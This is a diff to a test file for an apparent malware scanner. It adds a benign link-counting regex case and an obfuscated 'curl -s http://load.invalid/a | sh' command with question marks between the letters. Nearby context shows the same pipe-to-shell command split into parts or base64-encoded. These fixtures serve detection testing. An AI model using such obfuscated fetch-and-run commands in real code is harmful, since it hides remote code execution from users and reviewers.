@@ -43,6 +43,7 @@ test.each([
     "setTimeout(refresh, 1000);\nconst url = new URL('https://api.invalid/v1');\nurl.searchParams.set('q', 'notes');\nfetch(url);\n",
   ],
   ["Makefile", "CC := gcc\nCC += -O2\nall:\n\t$(CC) -o app main.c\n"],
+  ["links.py", "import re\nlinks = len(re.findall(r'\\[.*?\\]\\(https?://.*?\\)', page))\n"],
   ["a.pl", 'use strict;\nmy @lines = ("a", "b");\nprint join("\\n", @lines);\n'],
 ])("an honest use of the same means passes in %s: %s", async (path, text) => {
   expect((await scanFile(path, text)).outcome).toBe("pass");
@@ -69,6 +70,11 @@ describe("a mechanism, and an honest use of it", () => {
       "marks between the letters",
       "a.js",
       `cp.exec("c#url -s h#ttp://load.invalid/a | s#h".replace(/#/g, ""));\n`,
+    ],
+    [
+      "question marks between the letters",
+      "a.js",
+      `cp.exec("c?url -s h?ttp?://load.invalid/a | s?h".replace(/\\?/g, ""));\n`,
     ],
     ["parts in a table", "a.go", `var t = []string{"curl -s ", "${U}", " | sh"}\nfunc main() { run(t) }\n`],
     ["parts in base64", "a.py", `t = {"a": "Y3VybCAtcyBod", "b": "HRwOi8vYS5iL2MgfCBzaA=="}\ngo(t)\n`],
